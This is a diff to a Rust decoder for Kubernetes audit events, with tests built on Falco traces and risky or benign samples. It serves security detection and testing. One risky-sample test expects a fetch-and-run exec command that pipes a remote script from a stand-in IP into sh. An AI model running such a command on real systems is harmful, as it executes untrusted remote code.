@@ -28,8 +28,8 @@ use serde::Deserialize;
 use serde::de::{self, Deserializer, SeqAccess, Visitor};
 use serde_json::value::RawValue;
 
-use self::time::parse_rfc3339_ns;
-use super::docker_events::{Str, non_empty};
+use super::borrowed::{Str, non_empty};
+use super::time::parse_rfc3339_ns;
 use super::{DecodeError, Decoded};
 use crate::image_ref::ImageRef;
 use crate::model::{
@@ -37,18 +37,13 @@ use crate::model::{
     SecurityContext, Source, Workload,
 };
 
-// `decode/time.rs` is not declared in `decode/mod.rs` yet (`docker_inspect.rs` includes
-// it the same way). Once `mod time;` is there, drop these two lines and import
-// `super::time::parse_rfc3339_ns` instead.
-#[path = "time.rs"]
-mod time;
-
 /// One audit event as the API server writes it; unknown fields are skipped.
 #[derive(Deserialize)]
 #[serde(rename_all = "camelCase")]
 struct RawK8sAudit<'a> {
-    /// `Event`; checked when present, because a bare `EventList` or `Policy` shares keys.
-    kind: Option<EventKind>,
+    /// `Event`; read only to be checked, because an `EventList` or a `Policy` shares keys.
+    #[serde(rename = "kind")]
+    _kind: Option<EventKind>,
     /// The same for every stage of one request.
     #[serde(rename = "auditID", borrow)]
     audit_id: Str<'a>,
@@ -144,7 +139,7 @@ struct RawPodObject<'a> {
     ephemeral_containers: Option<Vec<RawContainer<'a>>>,
 }
 
-#[derive(Deserialize)]
+#[derive(Default, Deserialize)]
 #[serde(rename_all = "camelCase")]
 struct RawObjectMeta<'a> {
     #[serde(borrow)]
@@ -328,76 +323,74 @@ enum PodSpecAt {
     JobTemplate,
 }
 
-/// A built-in resource: its kind, and where its objects keep a pod spec if they do.
-struct KnownResource {
-    resource: &'static str,
-    /// API groups it is served from; `""` is the core group.
-    groups: &'static [&'static str],
-    kind: &'static str,
-    pod_spec: Option<PodSpecAt>,
-}
-
 const CORE: &[&str] = &[""];
 /// `extensions` served Deployments, DaemonSets and ReplicaSets until Kubernetes 1.16.
 const APPS: &[&str] = &["apps", "extensions"];
 const BATCH: &[&str] = &["batch"];
 const RBAC: &[&str] = &["rbac.authorization.k8s.io"];
 
-const fn known(
-    resource: &'static str,
-    groups: &'static [&'static str],
-    kind: &'static str,
-    pod_spec: Option<PodSpecAt>,
-) -> KnownResource {
-    KnownResource { resource, groups, kind, pod_spec }
-}
-
-/// Resources whose kind is named even when the event has no body (Metadata level,
-/// delete, exec), so one resource always gives one `Workload::kind`.
-const KNOWN_RESOURCES: &[KnownResource] = &[
-    known("pods", CORE, "Pod", Some(PodSpecAt::Spec)),
-    known("deployments", APPS, "Deployment", Some(PodSpecAt::Template)),
-    known("daemonsets", APPS, "DaemonSet", Some(PodSpecAt::Template)),
-    known("statefulsets", APPS, "StatefulSet", Some(PodSpecAt::Template)),
-    known("replicasets", APPS, "ReplicaSet", Some(PodSpecAt::Template)),
-    known("replicationcontrollers", CORE, "ReplicationController", Some(PodSpecAt::Template)),
-    known("jobs", BATCH, "Job", Some(PodSpecAt::Template)),
-    known("cronjobs", BATCH, "CronJob", Some(PodSpecAt::JobTemplate)),
-    known("configmaps", CORE, "ConfigMap", None),
-    known("secrets", CORE, "Secret", None),
-    known("services", CORE, "Service", None),
-    known("serviceaccounts", CORE, "ServiceAccount", None),
-    known("namespaces", CORE, "Namespace", None),
-    known("nodes", CORE, "Node", None),
-    known("persistentvolumes", CORE, "PersistentVolume", None),
-    known("persistentvolumeclaims", CORE, "PersistentVolumeClaim", None),
-    known("roles", RBAC, "Role", None),
-    known("rolebindings", RBAC, "RoleBinding", None),
-    known("clusterroles", RBAC, "ClusterRole", None),
-    known("clusterrolebindings", RBAC, "ClusterRoleBinding", None),
+/// Built-in resources, the API groups that serve them (`""` is the core group) and the
+/// kind of their objects. The kind is named from here even when the event has no body
+/// (Metadata level, delete, exec), so one resource always gives one `Workload::kind`.
+const KNOWN_RESOURCES: &[(&str, &[&str], &str)] = &[
+    ("pods", CORE, "Pod"),
+    ("deployments", APPS, "Deployment"),
+    ("daemonsets", APPS, "DaemonSet"),
+    ("statefulsets", APPS, "StatefulSet"),
+    ("replicasets", APPS, "ReplicaSet"),
+    ("replicationcontrollers", CORE, "ReplicationController"),
+    ("jobs", BATCH, "Job"),
+    ("cronjobs", BATCH, "CronJob"),
+    ("configmaps", CORE, "ConfigMap"),
+    ("secrets", CORE, "Secret"),
+    ("services", CORE, "Service"),
+    ("serviceaccounts", CORE, "ServiceAccount"),
+    ("namespaces", CORE, "Namespace"),
+    ("nodes", CORE, "Node"),
+    ("persistentvolumes", CORE, "PersistentVolume"),
+    ("persistentvolumeclaims", CORE, "PersistentVolumeClaim"),
+    ("roles", RBAC, "Role"),
+    ("rolebindings", RBAC, "RoleBinding"),
+    ("clusterroles", RBAC, "ClusterRole"),
+    ("clusterrolebindings", RBAC, "ClusterRoleBinding"),
 ];
 
-impl KnownResource {
-    /// The entry for `resource` in `group`. An absent `apiGroup` is accepted for any
-    /// group (hand-written and re-exported events drop it); a present one must match, so
-    /// `pods.metrics.k8s.io` or a custom `deployments` resource is not read as a workload.
-    fn find(resource: &str, group: Option<&str>) -> Option<&'static KnownResource> {
-        KNOWN_RESOURCES
-            .iter()
-            .find(|k| k.resource == resource && group.is_none_or(|g| k.groups.contains(&g)))
+/// The kind of a built-in `resource` in `group`. An absent `apiGroup` is accepted for any
+/// group (hand-written and re-exported events drop it); a present one must match, so
+/// `pods.metrics.k8s.io` or a custom `deployments` resource is not read as a workload.
+fn known_kind(resource: &str, group: Option<&str>) -> Option<&'static str> {
+    KNOWN_RESOURCES
+        .iter()
+        .find(|(r, groups, _)| *r == resource && group.is_none_or(|g| groups.contains(&g)))
+        .map(|&(_, _, kind)| kind)
+}
+
+/// Where objects of a built-in `kind` keep a pod spec: pods and the workloads that
+/// template one.
+fn pod_spec_at(kind: &str) -> Option<PodSpecAt> {
+    match kind {
+        "Pod" => Some(PodSpecAt::Spec),
+        "Deployment"
+        | "DaemonSet"
+        | "StatefulSet"
+        | "ReplicaSet"
+        | "ReplicationController"
+        | "Job" => Some(PodSpecAt::Template),
+        "CronJob" => Some(PodSpecAt::JobTemplate),
+        _ => None,
     }
 }
 
 /// What the request was about, taken from `objectRef` before any body is read.
 struct Target<'r> {
-    resource: Option<&'r str>,
     subresource: Option<&'r str>,
-    known: Option<&'static KnownResource>,
+    /// The kind of a built-in resource.
+    known: Option<&'static str>,
 }
 
 impl Target<'_> {
     fn has_pod_spec(&self) -> bool {
-        self.known.is_some_and(|k| k.pod_spec.is_some())
+        self.known.and_then(pod_spec_at).is_some()
     }
 
     /// Whether a body of this kind is the target object itself (rather than a `Status`,
@@ -407,7 +400,7 @@ impl Target<'_> {
             // Patch documents and hand-written bodies carry no kind.
             (_, None) => true,
             (Some(known), Some(kind)) => {
-                kind == known.kind
+                kind == known
                     || (kind == "EphemeralContainers" && self.subresource == Some(EPHEMERAL))
             }
             (None, Some(kind)) => {
@@ -428,20 +421,29 @@ pub(crate) fn decode(text: &str) -> Result<Decoded<'_>, DecodeError> {
         serde_json::from_str(text).map_err(|e| DecodeError::from_json(Source::K8sAudit, e))?;
 
     let target = Target {
-        resource: raw.object_ref.as_ref().and_then(|r| r.resource.as_ref()).map(|s| &*s.0),
-        subresource: raw.object_ref.as_ref().and_then(|r| r.subresource.as_ref()).map(|s| &*s.0),
+        subresource: raw
+            .object_ref
+            .as_ref()
+            .and_then(|r| r.subresource.as_ref())
+            .map(|s| &*s.0),
         known: raw.object_ref.as_ref().and_then(|r| {
             let group = r.api_group.as_ref().map(|g| &*g.0);
-            KnownResource::find(&r.resource.as_ref()?.0, group)
+            known_kind(&r.resource.as_ref()?.0, group)
         }),
     };
     let verb = raw.verb.0;
-    let watch_query = raw.request_uri.as_ref().is_some_and(|u| watch_requested(&u.0));
+    let watch_query = raw
+        .request_uri
+        .as_ref()
+        .is_some_and(|u| watch_requested(&u.0));
     let action = action(&verb, &target, watch_query);
     let evaluate = evaluate(raw.stage.as_ref().map(|s| &*s.0), &target, action);
 
     // Bodies: containers for the resources that hold a pod spec, identity for the rest.
-    let bodies = Bodies { response: raw.response_object, request: raw.request_object };
+    let bodies = Bodies {
+        response: raw.response_object,
+        request: raw.request_object,
+    };
     let is_patch = verb == "patch";
     let mut object_kind = None;
     let mut meta = None;
@@ -451,11 +453,11 @@ pub(crate) fn decode(text: &str) -> Result<Decoded<'_>, DecodeError> {
         Some(EXEC | ATTACH) => {
             if let Some(uri) = &raw.request_uri {
                 let query = ExecQuery::of(&uri.0);
-                process = query.process();
                 containers.extend(query.container.map(|name| Container {
                     name: Some(name),
                     ..Container::default()
                 }));
+                process = process_of(query.command);
             }
         }
         None | Some(EPHEMERAL) if target.has_pod_spec() => {
@@ -467,18 +469,22 @@ pub(crate) fn decode(text: &str) -> Result<Decoded<'_>, DecodeError> {
         }
         _ => {}
     }
-    if meta.is_none() {
-        if let Some(head) = object_head(bodies, &target, is_patch) {
-            object_kind = object_kind.or(head.kind);
-            meta = head.metadata;
-        }
+    if meta.is_none()
+        && let Some(head) = object_head(bodies, &target, is_patch)
+    {
+        object_kind = object_kind.or(head.kind);
+        meta = head.metadata;
     }
 
     let mut event = Event::new(Source::K8sAudit, action, verb);
-    event.time_ns = [&raw.stage_timestamp, &raw.request_received_timestamp, &raw.timestamp]
-        .into_iter()
-        .flatten()
-        .find_map(|t| parse_rfc3339_ns(&t.0));
+    event.time_ns = [
+        &raw.stage_timestamp,
+        &raw.request_received_timestamp,
+        &raw.timestamp,
+    ]
+    .into_iter()
+    .flatten()
+    .find_map(|t| parse_rfc3339_ns(&t.0));
     event.request_id = Some(raw.audit_id.0);
     event.response_code = raw
         .response_status
@@ -488,14 +494,9 @@ pub(crate) fn decode(text: &str) -> Result<Decoded<'_>, DecodeError> {
     let known = target.known;
     event.workload = raw.object_ref.and_then(|r| {
         let resource = r.resource?.0;
-        let meta = meta.unwrap_or(RawObjectMeta {
-            name: None,
-            generate_name: None,
-            namespace: None,
-            uid: None,
-        });
+        let meta = meta.unwrap_or_default();
         let kind = match (known, object_kind) {
-            (Some(known), _) => Cow::Borrowed(known.kind),
+            (Some(known), _) => Cow::Borrowed(known),
             (None, Some(kind)) => kind.0,
             (None, None) => resource,
         };
@@ -590,7 +591,13 @@ fn principal<'a>(
         ),
         None => (Cow::Borrowed(""), None, Vec::new()),
     };
-    Some(Principal { name, uid, groups, source_ip, user_agent })
+    Some(Principal {
+        name,
+        uid,
+        groups,
+        source_ip,
+        user_agent,
+    })
 }
 
 /// `responseObject` and `requestObject`, still raw.
@@ -622,7 +629,7 @@ fn pod_object<'a>(
     target: &Target<'_>,
     is_patch: bool,
 ) -> Result<Option<PodObject<'a>>, DecodeError> {
-    let Some(at) = target.known.and_then(|k| k.pod_spec) else {
+    let Some(at) = target.known.and_then(pod_spec_at) else {
         return Ok(None);
     };
     let bodies = [
@@ -642,7 +649,11 @@ fn pod_object<'a>(
             continue;
         }
         // The old `EphemeralContainers` body says nothing about the pod itself.
-        let (spec, full_object) = if object.kind.as_ref().is_some_and(|k| k.0 == "EphemeralContainers") {
+        let (spec, full_object) = if object
+            .kind
+            .as_ref()
+            .is_some_and(|k| k.0 == "EphemeralContainers")
+        {
             let spec = RawPodSpec {
                 ephemeral_containers: object.ephemeral_containers,
                 ..RawPodSpec::default()
@@ -655,7 +666,11 @@ fn pod_object<'a>(
             continue;
         };
         let containers = pod_containers(spec, full_object, target.subresource == Some(EPHEMERAL));
-        return Ok(Some(PodObject { kind: object.kind, metadata: object.metadata, containers }));
+        return Ok(Some(PodObject {
+            kind: object.kind,
+            metadata: object.metadata,
+            containers,
+        }));
     }
     Ok(None)
 }
@@ -686,14 +701,24 @@ fn nested_error(text: &str, body: &RawValue, field: &str, err: serde_json::Error
     // serde_json counts lines from 1 and columns from 1, in bytes.
     let line_start = match err.line() {
         0 | 1 => 0,
-        n => inner.match_indices('\n').nth(n - 2).map_or(0, |(i, _)| i + 1),
+        n => inner
+            .match_indices('\n')
+            .nth(n - 2)
+            .map_or(0, |(i, _)| i + 1),
     };
     let offset = (start + line_start + err.column().saturating_sub(1)).min(text.len());
     let line_begin = text[..offset].rfind('\n').map_or(0, |i| i + 1);
     let column = u32::try_from(offset - line_begin + 1).unwrap_or(u32::MAX);
     let mut error = DecodeError::from_json(Source::K8sAudit, err);
-    if let DecodeError::Shape { column: at, message, .. } | DecodeError::Syntax { column: at, message } =
-        &mut error
+    if let DecodeError::Shape {
+        column: at,
+        message,
+        ..
+    }
+    | DecodeError::Syntax {
+        column: at,
+        message,
+    } = &mut error
     {
         *at = column;
         message.insert_str(0, &format!("{field}: "));
@@ -795,7 +820,10 @@ fn container<'a>(
         Some(s) => (
             s.privileged,
             s.run_as_user,
-            s.capabilities.and_then(|c| c.add).map(strings).unwrap_or_default(),
+            s.capabilities
+                .and_then(|c| c.add)
+                .map(strings)
+                .unwrap_or_default(),
         ),
         None => (None, None, Vec::new()),
     };
@@ -845,7 +873,10 @@ fn container<'a>(
 }
 
 fn restart_policy(name: Cow<'_, str>) -> RestartPolicy<'_> {
-    RestartPolicy { name, max_retries: None }
+    RestartPolicy {
+        name,
+        max_retries: None,
+    }
 }
 
 fn strings(list: Vec<Str<'_>>) -> Vec<Cow<'_, str>> {
@@ -868,7 +899,11 @@ impl<'a> ExecQuery<'a> {
             Cow::Owned(uri) => {
                 let query = ExecQuery::parse(uri);
                 ExecQuery {
-                    command: query.command.into_iter().map(|c| Cow::Owned(c.into_owned())).collect(),
+                    command: query
+                        .command
+                        .into_iter()
+                        .map(|c| Cow::Owned(c.into_owned()))
+                        .collect(),
                     container: query.container.map(|c| Cow::Owned(c.into_owned())),
                 }
             }
@@ -876,7 +911,10 @@ impl<'a> ExecQuery<'a> {
     }
 
     fn parse(uri: &'a str) -> ExecQuery<'a> {
-        let mut query = ExecQuery { command: Vec::new(), container: None };
+        let mut query = ExecQuery {
+            command: Vec::new(),
+            container: None,
+        };
         for (key, value) in query_pairs(uri) {
             match key {
                 "command" => query.command.push(percent_decode(value)),
@@ -888,20 +926,21 @@ impl<'a> ExecQuery<'a> {
         }
         query
     }
+}
 
-    fn process(&self) -> Option<Process<'a>> {
-        let executable = self.command.first()?.clone();
-        let command_line = match self.command.as_slice() {
-            [one] => one.clone(),
-            args => Cow::Owned(args.join(" ")),
-        };
-        Some(Process {
-            executable: Some(executable),
-            args: self.command.clone(),
-            command_line: Some(command_line),
-            ..Process::default()
-        })
-    }
+/// The process an exec starts: its argv, the executable and the argv joined by spaces.
+fn process_of(args: Vec<Cow<'_, str>>) -> Option<Process<'_>> {
+    let executable = args.first()?.clone();
+    let command_line = match args.as_slice() {
+        [one] => one.clone(),
+        args => Cow::Owned(args.join(" ")),
+    };
+    Some(Process {
+        executable: Some(executable),
+        args,
+        command_line: Some(command_line),
+        ..Process::default()
+    })
 }
 
 /// `key=value` pairs of the query part of a request URI, values still encoded.
@@ -935,7 +974,10 @@ fn percent_decode(value: &str) -> Cow<'_, str> {
     while i < bytes.len() {
         match bytes[i] {
             b'+' => out.push(b' '),
-            b'%' => match (bytes.get(i + 1).and_then(hex), bytes.get(i + 2).and_then(hex)) {
+            b'%' => match (
+                bytes.get(i + 1).and_then(hex),
+                bytes.get(i + 2).and_then(hex),
+            ) {
                 (Some(hi), Some(lo)) => {
                     out.push((hi << 4) | lo);
                     i += 2;
@@ -953,5 +995,858 @@ fn percent_decode(value: &str) -> Cow<'_, str> {
 }
 
 fn hex(b: &u8) -> Option<u8> {
-    char::from(*b).to_digit(16).and_then(|d| u8::try_from(d).ok())
+    char::from(*b)
+        .to_digit(16)
+        .and_then(|d| u8::try_from(d).ok())
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::{Path, PathBuf};
+
+    use super::*;
+
+    fn decode_ok(text: &str) -> Decoded<'_> {
+        match decode(text) {
+            Ok(decoded) => decoded,
+            Err(e) => panic!("{e}\n{text}"),
+        }
+    }
+
+    fn shared_dir() -> PathBuf {
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/falco-k8s-audit")
+    }
+
+    /// The first line of a Falco trace file, or `None` (and a note) when `../shared` is
+    /// not checked out next to the project.
+    fn falco(file: &str) -> Option<String> {
+        let dir = shared_dir();
+        if !dir.is_dir() {
+            println!("skipped: ../shared not present");
+            return None;
+        }
+        let text = std::fs::read_to_string(dir.join(file)).unwrap();
+        Some(text.lines().next().unwrap().to_owned())
+    }
+
+    fn sample_lines(name: &str) -> Vec<String> {
+        let path = Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("../samples/k8s-audit")
+            .join(name);
+        let text =
+            std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+        text.lines().map(str::to_owned).collect()
+    }
+
+    fn by_name<'e, 'a>(event: &'e Event<'a>, name: &str) -> &'e Container<'a> {
+        event
+            .containers
+            .iter()
+            .find(|c| c.name.as_deref() == Some(name))
+            .unwrap_or_else(|| panic!("no container {name} in {:?}", event.containers))
+    }
+
+    fn names(event: &Event<'_>) -> Vec<(String, ContainerRole)> {
+        event
+            .containers
+            .iter()
+            .map(|c| (c.name.as_deref().unwrap_or("").to_owned(), c.role))
+            .collect()
+    }
+
+    // ---- Falco's trace files ----
+
+    #[test]
+    fn falco_every_file_decodes_or_errors_cleanly() {
+        let dir = shared_dir();
+        if !dir.is_dir() {
+            println!("skipped: ../shared not present");
+            return;
+        }
+        let mut records = 0;
+        for entry in std::fs::read_dir(&dir).unwrap() {
+            let path = entry.unwrap().path();
+            if path.extension().is_none_or(|e| e != "json") {
+                continue;
+            }
+            let text = std::fs::read_to_string(&path).unwrap();
+            for line in text.lines().filter(|l| !l.trim().is_empty()) {
+                records += 1;
+                let result = decode(line);
+                if path.file_name().unwrap() == "fal_01_003.json" {
+                    assert!(result.is_err());
+                } else if let Err(e) = result {
+                    panic!("{}: {e}", path.display());
+                }
+            }
+        }
+        assert!(records >= 47, "{records}");
+    }
+
+    #[test]
+    fn falco_privileged_pod() {
+        let Some(text) = falco("create_nginx_pod_privileged.json") else {
+            return;
+        };
+        let decoded = decode_ok(&text);
+        let event = &decoded.event;
+        assert!(decoded.evaluate);
+        assert_eq!(event.action, Action::WorkloadCreate);
+        assert_eq!(event.raw_action, "create");
+        let workload = event.workload.as_ref().unwrap();
+        assert_eq!(workload.kind, "Pod");
+        // From responseObject: the generated name and the uid.
+        assert_eq!(
+            workload.name.as_deref(),
+            Some("nginx-deployment-5cdcc99dbf-rgw6z")
+        );
+        assert_eq!(workload.namespace.as_deref(), Some("default"));
+        assert!(workload.uid.is_some());
+        assert_eq!(event.containers.len(), 1);
+        let nginx = by_name(event, "nginx");
+        assert_eq!(nginx.security.privileged, Some(true));
+        assert_eq!(nginx.role, ContainerRole::Main);
+        assert_eq!(nginx.image.as_ref().unwrap().repository, "library/nginx");
+        let principal = event.principal.as_ref().unwrap();
+        assert_eq!(
+            principal.name,
+            "system:serviceaccount:kube-system:replicaset-controller"
+        );
+        assert_eq!(principal.source_ip.as_deref(), Some("::1"));
+        assert_eq!(event.response_code, Some(201));
+    }
+
+    #[test]
+    fn falco_privileged_second_container() {
+        let Some(text) = falco("create_nginx_pod_privileged_2nd_container.json") else {
+            return;
+        };
+        let event = decode_ok(&text).event;
+        assert_eq!(by_name(&event, "nginx1").security.privileged, Some(false));
+        assert_eq!(by_name(&event, "mysql").security.privileged, Some(true));
+    }
+
+    #[test]
+    fn falco_no_security_context_first_privileged_second() {
+        let Some(text) =
+            falco("create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json")
+        else {
+            return;
+        };
+        let event = decode_ok(&text).event;
+        assert_ne!(by_name(&event, "nginx1").security.privileged, Some(true));
+        assert_eq!(by_name(&event, "mysql").security.privileged, Some(true));
+        assert_eq!(
+            event
+                .containers
+                .iter()
+                .filter(|c| c.security.privileged == Some(true))
+                .count(),
+            1
+        );
+    }
+
+    #[test]
+    fn falco_host_network_true_and_absent() {
+        let Some(text) = falco("create_nginx_pod_hostnetwork.json") else {
+            return;
+        };
+        let event = decode_ok(&text).event;
+        assert_eq!(by_name(&event, "nginx1").security.host_network, Some(true));
+        // Host PID was not set: in a whole object that is false (see `pod_containers`).
+        assert_eq!(by_name(&event, "nginx1").security.host_pid, Some(false));
+
+        let Some(text) = falco("create_nginx_pod_nohostnetwork.json") else {
+            return;
+        };
+        let event = decode_ok(&text).event;
+        assert_eq!(by_name(&event, "nginx1").security.host_network, Some(false));
+    }
+
+    #[test]
+    fn falco_sensitive_mount() {
+        let Some(text) = falco("create_nginx_pod_sensitive_mount.json") else {
+            return;
+        };
+        let event = decode_ok(&text).event;
+        let nginx = by_name(&event, "nginx");
+        assert_eq!(
+            nginx.security.host_mounts,
+            vec![HostMount {
+                host_path: Cow::Borrowed("/etc"),
+                container_path: Some(Cow::Borrowed("/host/etc")),
+                read_only: false,
+            }]
+        );
+
+        let Some(text) = falco("create_nginx_pod_sensitive_mount_2nd_container.json") else {
+            return;
+        };
+        let event = decode_ok(&text).event;
+        assert!(by_name(&event, "nginx1").security.host_mounts.is_empty());
+        assert_eq!(
+            by_name(&event, "mysql").security.host_mounts[0].host_path,
+            "/etc"
+        );
+    }
+
+    #[test]
+    fn falco_exec_pod() {
+        let Some(text) = falco("exec_pod.json") else {
+            return;
+        };
+        let decoded = decode_ok(&text);
+        let event = &decoded.event;
+        assert!(
+            decoded.evaluate,
+            "ResponseStarted of an exec is the stage evaluated"
+        );
+        assert_eq!(event.action, Action::ContainerExec);
+        assert_eq!(event.raw_action, "create");
+        let process = event.process.as_ref().unwrap();
+        assert_eq!(process.args, vec!["bash"]);
+        assert_eq!(process.executable.as_deref(), Some("bash"));
+        assert_eq!(process.command_line.as_deref(), Some("bash"));
+        assert_eq!(
+            names(event),
+            vec![("nginx1".to_owned(), ContainerRole::Main)]
+        );
+        let workload = event.workload.as_ref().unwrap();
+        assert_eq!(workload.kind, "Pod");
+        assert_eq!(
+            workload.name.as_deref(),
+            Some("nginx-deployment-7998647bdf-phvq7")
+        );
+        assert_eq!(event.response_code, Some(101));
+        assert_eq!(event.time_ns, Some(1_540_561_114_902_914_000));
+    }
+
+    #[test]
+    fn falco_attach_pod() {
+        let Some(text) = falco("attach_pod.json") else {
+            return;
+        };
+        let decoded = decode_ok(&text);
+        assert!(decoded.evaluate);
+        assert_eq!(decoded.event.action, Action::ContainerAttach);
+        assert!(decoded.event.process.is_none());
+        assert_eq!(decoded.event.containers[0].name.as_deref(), Some("nginx1"));
+    }
+
+    #[test]
+    fn falco_unprivileged() {
+        let Some(text) = falco("create_nginx_pod_unprivileged.json") else {
+            return;
+        };
+        let event = decode_ok(&text).event;
+        let nginx = by_name(&event, "nginx");
+        assert_eq!(nginx.security.privileged, None);
+        assert_eq!(nginx.security.host_network, Some(false));
+        assert!(nginx.security.host_mounts.is_empty());
+        assert!(nginx.security.cap_add.is_empty());
+        assert_eq!(
+            nginx.security.restart_policy.as_ref().unwrap().name,
+            "Always"
+        );
+    }
+
+    #[test]
+    fn falco_malformed_is_a_located_shape_error() {
+        let Some(text) = falco("fal_01_003.json") else {
+            return;
+        };
+        match decode(&text) {
+            Err(DecodeError::Shape {
+                column, message, ..
+            }) => {
+                assert_eq!(column, 10, "{message}");
+                assert!(message.contains("Event"), "{message}");
+            }
+            other => panic!("{other:?}"),
+        }
+    }
+
+    #[test]
+    fn falco_delete_deployment_has_no_containers_and_keeps_the_kind() {
+        let Some(text) = falco("delete_deployment.json") else {
+            return;
+        };
+        let event = decode_ok(&text).event;
+        assert_eq!(event.action, Action::WorkloadDelete);
+        assert!(event.containers.is_empty());
+        let workload = event.workload.unwrap();
+        assert_eq!(workload.kind, "Deployment");
+        assert_eq!(workload.name.as_deref(), Some("nginx-deployment"));
+    }
+
+    #[test]
+    fn falco_configmap_create_is_other() {
+        let Some(text) = falco("create_configmap.json") else {
+            return;
+        };
+        let event = decode_ok(&text).event;
+        assert_eq!(event.action, Action::Other);
+        assert_eq!(event.workload.unwrap().kind, "ConfigMap");
+    }
+
+    // ---- samples/k8s-audit ----
+
+    #[test]
+    fn risky_samples() {
+        let lines = sample_lines("risky.ndjson");
+        assert_eq!(lines.len(), 7);
+        let decoded: Vec<Decoded<'_>> = lines.iter().map(|l| decode_ok(l)).collect();
+
+        // 1. Privileged pod.
+        let event = &decoded[0].event;
+        assert!(decoded[0].evaluate);
+        assert_eq!(event.action, Action::WorkloadCreate);
+        let c = by_name(event, "priv-debug");
+        assert_eq!(c.security.privileged, Some(true));
+        assert_eq!(c.security.entrypoint, Some(vec![Cow::Borrowed("sleep")]));
+        assert_eq!(c.security.command, Some(vec![Cow::Borrowed("infinity")]));
+        assert_eq!(c.security.restart_policy.as_ref().unwrap().name, "Never");
+        assert_eq!(event.principal.as_ref().unwrap().name, "alice@example.com");
+        assert_eq!(event.time_ns, Some(1_715_677_923_531_904_000));
+
+        // 2. Docker socket.
+        let event = &decoded[1].event;
+        let build = by_name(event, "build");
+        assert_eq!(build.security.host_mounts.len(), 1);
+        assert_eq!(
+            build.security.host_mounts[0].host_path,
+            "/var/run/docker.sock"
+        );
+        assert_eq!(
+            build.security.host_mounts[0].container_path.as_deref(),
+            Some("/var/run/docker.sock")
+        );
+        assert_eq!(
+            build.image.as_ref().unwrap().tag.as_deref(),
+            Some("26.1-cli")
+        );
+        assert!(build.security.command.as_ref().unwrap()[0].contains("&& docker push"));
+
+        // 3. hostPID + hostNetwork, name generated by the server.
+        let event = &decoded[2].event;
+        let shell = by_name(event, "shell");
+        assert_eq!(shell.security.host_pid, Some(true));
+        assert_eq!(shell.security.host_network, Some(true));
+        assert_eq!(shell.security.host_ipc, Some(false));
+        assert_eq!(shell.security.privileged, None);
+        let workload = event.workload.as_ref().unwrap();
+        assert_eq!(workload.name.as_deref(), Some("node-shell-8f2kq"));
+        assert_eq!(workload.namespace.as_deref(), Some("kube-system"));
+
+        // 4. Deployment with an init container and a native sidecar.
+        let event = &decoded[3].event;
+        assert_eq!(event.action, Action::WorkloadCreate);
+        assert_eq!(event.workload.as_ref().unwrap().kind, "Deployment");
+        assert_eq!(
+            names(event),
+            vec![
+                ("web".to_owned(), ContainerRole::Main),
+                ("init-setup".to_owned(), ContainerRole::Init),
+                ("log-shipper".to_owned(), ContainerRole::Init),
+            ]
+        );
+        assert_eq!(by_name(event, "web").security.user.as_deref(), Some("1000"));
+        assert_eq!(
+            by_name(event, "web")
+                .security
+                .restart_policy
+                .as_ref()
+                .unwrap()
+                .name,
+            "Always"
+        );
+        assert_eq!(by_name(event, "init-setup").security.restart_policy, None);
+        assert_eq!(
+            by_name(event, "log-shipper")
+                .security
+                .restart_policy
+                .as_ref()
+                .unwrap()
+                .name,
+            "Always"
+        );
+
+        // 5. CronJob.
+        let event = &decoded[4].event;
+        assert_eq!(event.workload.as_ref().unwrap().kind, "CronJob");
+        let cleanup = by_name(event, "cleanup");
+        assert_eq!(cleanup.security.user.as_deref(), Some("0"));
+        assert_eq!(cleanup.security.cap_add, vec!["SYS_ADMIN", "NET_ADMIN"]);
+        assert_eq!(
+            cleanup.security.restart_policy.as_ref().unwrap().name,
+            "OnFailure"
+        );
+        assert_eq!(
+            cleanup.image.as_ref().unwrap().registry,
+            "203.0.113.50:5000"
+        );
+
+        // 6. and 7. One exec, two stages, one evaluated.
+        let (started, complete) = (&decoded[5], &decoded[6]);
+        assert_eq!(started.event.request_id, complete.event.request_id);
+        assert!(started.evaluate);
+        assert!(!complete.evaluate);
+        let event = &started.event;
+        assert_eq!(event.action, Action::ContainerExec);
+        assert_eq!(event.raw_action, "get");
+        assert_eq!(event.response_code, Some(101));
+        assert_eq!(
+            names(event),
+            vec![("init-setup".to_owned(), ContainerRole::Main)]
+        );
+        let process = event.process.as_ref().unwrap();
+        assert_eq!(
+            process.args,
+            vec!["sh", "-c", "curl -fsSL http://203.0.113.50/x.sh | sh"]
+        );
+        assert_eq!(
+            process.command_line.as_deref(),
+            Some("sh -c curl -fsSL http://203.0.113.50/x.sh | sh")
+        );
+        assert_eq!(
+            event.principal.as_ref().unwrap().source_ip.as_deref(),
+            Some("10.0.12.4")
+        );
+    }
+
+    #[test]
+    fn benign_samples() {
+        let lines = sample_lines("benign.ndjson");
+        assert_eq!(lines.len(), 4);
+        let decoded: Vec<Decoded<'_>> = lines.iter().map(|l| decode_ok(l)).collect();
+
+        let event = &decoded[0].event;
+        assert!(decoded[0].evaluate);
+        assert_eq!(event.action, Action::WorkloadCreate);
+        let nginx = by_name(event, "nginx");
+        assert_eq!(nginx.security.privileged, None);
+        assert_eq!(nginx.security.user.as_deref(), Some("101"));
+        assert!(nginx.security.host_mounts.is_empty());
+        assert!(nginx.security.cap_add.is_empty());
+        assert_eq!(nginx.security.host_pid, Some(false));
+        assert_eq!(
+            event.workload.as_ref().unwrap().name.as_deref(),
+            Some("nginx-6b7f675859-t5w8r")
+        );
+
+        assert_eq!(decoded[1].event.action, Action::ResourceList);
+        assert!(decoded[1].evaluate);
+        assert_eq!(decoded[1].event.workload.as_ref().unwrap().kind, "Pod");
+        assert!(decoded[1].event.workload.as_ref().unwrap().name.is_none());
+
+        assert_eq!(decoded[2].event.action, Action::ResourceGet);
+        assert_eq!(
+            decoded[2].event.workload.as_ref().unwrap().kind,
+            "ConfigMap"
+        );
+
+        assert!(!decoded[3].evaluate, "RequestReceived is never evaluated");
+        assert_eq!(decoded[3].event.action, Action::Other);
+        assert_eq!(decoded[3].event.workload.as_ref().unwrap().kind, "leases");
+        assert_eq!(decoded[3].event.response_code, None);
+    }
+
+    // ---- inline events ----
+
+    const HEAD: &str =
+        r#""kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"a1""#;
+
+    fn event_with(rest: &str) -> String {
+        format!("{{{HEAD},{rest}}}")
+    }
+
+    #[test]
